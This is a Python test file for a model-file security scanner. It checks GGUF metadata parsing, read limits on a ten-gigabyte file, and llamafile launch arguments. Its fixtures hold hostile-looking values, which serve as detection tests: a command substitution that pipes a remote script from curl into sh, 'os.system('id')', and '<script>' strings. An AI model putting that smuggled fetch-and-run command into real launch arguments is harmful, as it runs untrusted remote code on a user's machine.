"""GGUF metadata, the formats before GGUF, and llamafiles through the engine."""

from __future__ import annotations

import struct
from functools import lru_cache

import pytest
from samples.recipes.gguf_family import APE, archive, gguf

from tests.formats.sparse_source import SparseSource
from weighbridge.analyzers.inspection import Context
from weighbridge.analyzers.weights.gguf import inspect
from weighbridge.bytesource.memory import MemorySource
from weighbridge.core.artifact import Artifact, ByteSource
from weighbridge.core.finding import Finding
from weighbridge.core.limits import GIB, MIB, Budget, Limits
from weighbridge.core.report import Coverage
from weighbridge.engine.tree import inspect_tree
from weighbridge.formats.identify import identify
from weighbridge.formats.kinds import Format
from weighbridge.knowledge.callables import CallableKnowledge
from weighbridge.knowledge.locate import signatures_dir


@lru_cache(maxsize=1)
def callables() -> CallableKnowledge:
    return CallableKnowledge.load(signatures_dir() / "callables")


def inspected(source: ByteSource, name: str) -> tuple[list[Finding], list[Coverage]]:
    found: list[object] = []
    context = Context(Budget(Limits()), callables())
    inspect_tree(Artifact((name,), source), context, found.append)
    findings = [one for one in found if isinstance(one, Finding)]
    return findings, [one for one in found if isinstance(one, Coverage)]


def rules(data: bytes, name: str = "model.gguf") -> set[str]:
    return {finding.rule for finding in inspected(MemorySource(data), name)[0]}


def _vocabulary(words: int) -> bytes:
    key = b"tokenizer.ggml.tokens"
    listed = b"".join(struct.pack("<Q", 8) + b"word%04x" % (number & 0xFFFF) for number in range(words))
    head = struct.pack("<Q", len(key)) + key + struct.pack("<I", 9)
    return head + struct.pack("<IQ", 8, words) + listed


def test_a_gguf_of_ten_gigabytes_costs_its_header() -> None:
    tensors = 320
    each = 10 * GIB // tensors
    infos = b"".join(
        struct.pack("<Q", 6) + b"t%05d" % number + struct.pack("<IQIQ", 1, each // 4, 0, number * each)
        for number in range(tensors)
    )
    head = b"GGUF" + struct.pack("<IQQ", 3, tensors, 1) + _vocabulary(128_000) + infos
    head += bytes(-len(head) % 32)
    source = SparseSource(len(head) + 10 * GIB, {0: head})
    context = Context(Budget(Limits()), callables())
    assert list(inspect(Artifact(("large.gguf",), source), context)) == []
    assert source.bytes_read == 2_424_832
    assert source.bytes_read < 5 * MIB


def test_words_of_a_vocabulary_and_templates_are_not_free_text() -> None:
    data = gguf(tokenizer__chat_template="<script>", tokenizer__ggml__model="os.system('id')")
    assert not any(rule.startswith("GGF") for rule in rules(data))


@pytest.mark.parametrize(
    "text",
    [
        "see https://example.invalid/model and C:\\models\\base.gguf",
        "Run it with ./llama-cli -m model.gguf -p 'write a script that calls os.system'",
        "A model for shell commands such as `ls -la | grep x`",
        "trained with curl data",
    ],
)
def test_descriptions_addresses_and_paths_are_no_findings(text: str) -> None:
    assert rules(gguf(general__description=text)) == set()


@pytest.mark.parametrize(
    ("arguments", "expected"),
    [
        ("--host\n127.0.0.1", set()),
        ("--host\n0.0.0.0", {"GGF017"}),
        ("--host=0.0.0.0", {"GGF017"}),
        ("-hf\norganisation/model", {"GGF017"}),
        ("-ngl\n999\n--temp\n0", set()),
        ("-p\n$(curl -s https://example.invalid/marker.sh | sh)", {"GGF018"}),
    ],
)
def test_arguments_of_a_llamafile_are_judged(arguments: str, expected: set[str]) -> None:
    data = archive(APE, model__gguf=gguf(), __args=arguments.encode())
    assert rules(data, "model.llamafile") - {"GGF016", "ZIP010"} == expected


def test_the_model_in_a_llamafile_is_inspected() -> None:
    data = archive(APE, model__gguf=gguf(general__author="<script>"), __args=b"")
    assert "GGF015" in rules(data, "model.llamafile")


@pytest.mark.parametrize("head", [b"\x7fELF", b"MZ\x90\0"])
def test_a_llamafile_that_became_a_plain_program_is_known_by_its_name(head: bytes) -> None:
    source = MemorySource(archive(head + bytes(200), __args=b"--unsecure"))
    assert Format.LLAMAFILE in identify(source, "model.llamafile")
    assert Format.LLAMAFILE not in identify(source, "program.exe")
